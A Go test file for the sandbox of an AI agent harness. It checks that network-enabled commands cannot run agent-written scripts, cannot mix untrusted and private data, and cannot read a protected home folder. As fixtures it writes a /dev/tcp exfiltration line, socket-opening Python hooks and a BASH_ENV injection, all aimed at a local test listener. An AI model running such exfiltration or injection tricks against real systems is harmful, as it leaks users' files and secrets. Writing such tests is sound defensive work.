package agent_test

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"rouse/agent/plan"
	"rouse/agent/tool"
	"rouse/internal/domain"
	"rouse/internal/ledger"
	"rouse/internal/ledger/event"
	"rouse/internal/ledger/label"
	"rouse/internal/nofollow"
)

// labelled labels a place as untrusted, like a run that writes there.
func (b *bench) labelled(path string) {
	b.t.Helper()
	id := b.enqueue(ledger.Request{Agent: "plain"})
	_, a, err := b.ledger.StartAttempt(b.t.Context(), id)
	if err == nil {
		err = b.ledger.Labels.RecordTaint(b.t.Context(), a, label.TaintUpdate{Taint: "A", Writes: []label.Place{tool.PlaceOf(path)}})
	}
	if err != nil {
		b.t.Fatal(err)
	}
}

// listening counts the connections to an address.
func listening(t *testing.T) (address string, asked func() int) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	seen := make(chan struct{}, 1000)
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			seen <- struct{}{}
			_ = c.Close()
		}
	}()
	return l.Addr().String(), func() int { return len(seen) }
}

// TestConditionWithNetworkRunsNoScriptOfAgents checks that the command of a condition with network
// access cannot run a script that an agent could have written.
func TestConditionWithNetworkRunsNoScriptOfAgents(t *testing.T) {
	t.Parallel()
	needShell(t)
	needConfinement(t)
	b := setup(t)
	address, asked := listening(t)
	host, port, _ := net.SplitHostPort(address)
	work := filepath.Join(b.dir, "work")
	send := fmt.Sprintf("exec 3<>/dev/tcp/%s/%s; cat own >&3; echo ran >&2", host, port)
	for _, name := range []string{"check.sh", "sub/check.sh", "bashenv"} {
		b.write("work/"+name, send+"\n")
	}
	b.write("work/own", "own\n")
	b.write("work/mod/__main__.py", fmt.Sprintf("import socket; socket.create_connection((%q, %s)); print('ran')\n", host, port))
	b.write("work/lib/sitecustomize.py", fmt.Sprintf("import socket; socket.create_connection((%q, %s)); print('ran')\n", host, port))
	b.write("work/Makefile", "all:\n\t@bash check.sh\n")
	if err := os.Symlink(work, filepath.Join(b.dir, "link")); err != nil {
		t.Fatal(err)
	}
	b.plan.Boundary = nofollow.NewBoundary(work)
	a := b.plan.Agents["clerk"]
	a.PrivateFolders = []string{work} // as by default, see privatePlaces
	b.plan.Agents["clerk"] = a
	b.labelled(work)

	for _, argv := range [][]string{
		{"bash", "check.sh"}, {"bash", "-e", "check.sh"}, {"bash", "--norc", "-u", "./check.sh"}, {"env", "bash", "check.sh"}, {"env", "-C", work, "bash", "check.sh"},
		{"bash", "-c", ". ./check.sh"}, {"bash", "-c", "cd " + work + " && bash check.sh"}, {"bash", "-c", "cd " + filepath.Join(b.dir, "link") + "; bash sub/check.sh"},
		{"env", "BASH_ENV=" + filepath.Join(work, "bashenv"), "bash", "-c", ":"}, {"python3", "-m", "mod"}, {"env", "PYTHONPATH=" + work, "python3", "-m", "mod"},
		{"env", "PYTHONPATH=" + filepath.Join(work, "lib"), "python3", "-c", "0"}, {"make", "-s"}, {"make", "-s", "-C", "../work"}, {"bash", "-c", "bash <" + work + "/check.sh"},
	} {
		if _, err := exec.LookPath(argv[0]); err != nil {
			continue
		}
		res, events := b.gated(plan.Condition{Command: argv, Network: true})
		if n := asked(); n > 0 {
			t.Fatalf("%q: the script of the agent ran: %+v", argv, events)
		}
		if len(events) != 1 || strings.Contains(events[0].Value, "ran") || res.Outcome == domain.OutcomeSuccess && !slices.Contains([]string{"0", ":"}, argv[len(argv)-1]) {
			t.Errorf("%q: %+v", argv, events)
		}
	}
	if _, events := b.gated(plan.Condition{Command: []string{"bash", "check.sh"}, Network: true}); !strings.Contains(events[0].Value, "add beside the command read: ["+work+"]") {
		t.Errorf("it does not say what to do: %+v", events)
	}
}

// TestConditionOfAllThreeLabels checks that a condition with network access can read the paths that
// its owner names, unless untrusted content and private data would be combined with it.
func TestConditionOfAllThreeLabels(t *testing.T) {
	t.Parallel()
	needShell(t)
	needConfinement(t)
	b := setup(t)
	work, beside, empty := filepath.Join(b.dir, "work"), filepath.Join(b.dir, "beside"), filepath.Join(b.dir, "other")
	b.write("work/own", "own")
	b.write("beside/kept", "kept")
	b.write("other/own", "own")
	cat := func(path string) []string { return []string{"sh", "-c", "cat " + path} }
	check := func(what string, c plan.Condition, want string) ledger.Result {
		t.Helper()
		res, events := b.gated(c)
		if len(events) != 1 || want != events[0].Value && (events[0].Error == "" || !strings.Contains(events[0].Error, want)) {
			t.Errorf("%s: %+v %+v, want %s", what, res, events, want)
		}
		return res
	}

	declared := plan.Condition{Command: cat("own"), Network: true, Read: []string{work}}
	check("its workdir, declared", declared, "exit 0: own")
	check("a file of its owner's", plan.Condition{Command: cat(filepath.Join(beside, "kept")), Network: true, Read: []string{beside}}, "exit 0: kept")
	check("named", plan.Condition{Command: []string{"cat", filepath.Join(work, "own")}, Network: true}, "exit 0: own")

	b.labelled(work)
	check("untrusted, not private", declared, "exit 0: own")
	declared.Read = append(declared.Read, beside)
	res := check("untrusted and private", declared, "it would get untrusted content (once you have checked it: rouse grants trust "+work+"), private data (if it is not: grants: {read: [")
	if res.Outcome != domain.OutcomeError || !strings.Contains(res.Error, "rouse grants trust "+work) {
		t.Errorf("%+v", res)
	}
	check("without a sandbox", plan.Condition{Command: cat("own"), Unconfined: "a test", Read: []string{work}}, "and sandbox: off together")
	check("no network", plan.Condition{Command: cat("own"), Read: []string{beside}}, "exit 0: own")

	a := b.plan.Agents["clerk"]
	a.PrivateFolders = []string{work}
	b.plan.Agents["clerk"] = a
	check("a private workdir", plan.Condition{Command: cat("own"), Network: true, Read: []string{work}}, "private: {workdir: false}")
	check("that it does not see", plan.Condition{Command: cat(filepath.Join(empty, "own")), Network: true, Read: []string{empty}}, "exit 0: own")
	b.plan.UntrustedFolders = []string{empty}
	check("where strangers leave files", plan.Condition{Command: cat(filepath.Join(empty, "own")), Network: true, Read: []string{empty}}, "untrusted content")
}

// TestConditionLabelsWhatItWrites checks that the places that a condition with network access may
// write to are labelled before it starts, and that its start is recorded.
func TestConditionLabelsWhatItWrites(t *testing.T) {
	t.Parallel()
	needShell(t)
	needConfinement(t)
	b := setup(t)
	work := filepath.Join(b.dir, "work")
	b.write("work/own", "own")
	label := func() string {
		t.Helper()
		letters, err := b.ledger.Labels.Of(t.Context(), tool.PlaceOf(filepath.Join(work, "page")))
		if err != nil {
			t.Fatal(err)
		}
		return letters
	}
	for _, c := range []plan.Condition{
		{Command: []string{"sh", "-c", "echo x >page"}, Write: true}, {Command: []string{"sh", "-c", "cat own"}, Network: true, Read: []string{work}},
	} {
		if _, events := b.gated(c); len(events) != 1 || !strings.HasPrefix(events[0].Value, "exit 0") || label() != "" {
			t.Errorf("%+v: %+v, %q", c, events, label())
		}
	}
	if _, events := b.gated(plan.Condition{Command: []string{"sh", "-c", "echo x >page"}, Write: true, Network: true}); len(events) != 1 || events[0].Value != "exit 0" || label() != "A" {
		t.Errorf("%+v, %q", events, label())
	}

	all, err := b.ledger.Events.List(context.Background(), event.Filter{})
	if err != nil || !slices.ContainsFunc(all, func(e ledger.Event) bool {
		return e.Kind == "program.started" && strings.Contains(string(e.Data), `"why":"condition"`) && strings.Contains(string(e.Data), `"network":"host"`) && strings.Contains(string(e.Data), work)
	}) {
		t.Errorf("%v: %+v", err, all)
	}
}

// TestConditionSeesNoHome checks that the command of a condition cannot access rouse's home folder,
// not even through a link.
func TestConditionSeesNoHome(t *testing.T) {
	t.Parallel()
	needShell(t)
	needConfinement(t)
	b := setup(t)
	home := filepath.Join(b.dir, "given", "home")
	b.write("given/home/secrets.json", "canary")
	b.write("given/tool/x", "x")
	if err := errors.Join(os.Symlink(home, filepath.Join(b.dir, "given", "tool", "link")), os.Symlink(home, filepath.Join(b.dir, "alias"))); err != nil {
		t.Fatal(err)
	}
	b.plan.Masks = tool.ProtectedPaths{Hidden: []string{home}}
	for _, path := range []string{"given/home/secrets.json", "given/tool/link/secrets.json", "alias/secrets.json"} {
		for _, read := range []string{"given", "given/tool", "alias", "given/home", "."} {
			for _, network := range []bool{false, true} {
				if read == "." && network {
					continue // the path would also contain the folders of agents
				}
				_, events := b.gated(plan.Condition{Command: []string{"sh", "-c", "cat " + filepath.Join(b.dir, path)}, Read: []string{filepath.Join(b.dir, read)}, Network: network})
				if len(events) != 1 || strings.Contains(events[0].Value, "canary") || events[0].Value == "" && events[0].Error == "" {
					t.Errorf("%s by %s: %+v", path, read, events)
				}
			}
		}
	}
}
